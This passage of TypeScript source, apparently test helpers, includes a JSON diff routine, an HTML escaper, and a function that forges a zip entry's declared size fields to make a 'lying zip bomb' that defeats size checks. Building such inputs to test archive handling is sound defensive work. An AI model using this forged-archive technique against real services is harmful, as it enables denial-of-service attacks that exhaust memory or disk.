  const [a, b] = [JSON.parse(before) as Record<string, unknown>, JSON.parse(after) as Record<string, unknown>];
  return Object.keys({ ...a, ...b })
    .filter((key) => JSON.stringify(a[key]) !== JSON.stringify(b[key]))
    .map((key) => `${key}: ${JSON.stringify(a[key])} -> ${JSON.stringify(b[key])}`);
}

function escapeHtml(text: string) {
  return text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll('"', "&quot;");
}

/**
 * Rewrites the sizes a zip declares for one entry (local header and central directory), so that it
 * says it unpacks to `declared` bytes while it really inflates to far more: a lying zip bomb.
 */
function lieAboutSizes(bytes: Buffer, name: string, declared: number) {
  const copy = Buffer.from(bytes);
  const encoded = Buffer.from(name);
  for (let i = 0; i < copy.length - 4; i++) {
    const signature = copy.readUInt32LE(i);
    if (signature === 0x04034b50 && copy.subarray(i + 30, i + 30 + encoded.length).equals(encoded)) {
      copy.writeUInt32LE(declared, i + 22);
    } else if (signature === 0x02014b50 && copy.subarray(i + 46, i + 46 + encoded.length).equals(encoded)) {
      copy.writeUInt32LE(declared, i + 24);
    }
  }
  return copy;
}
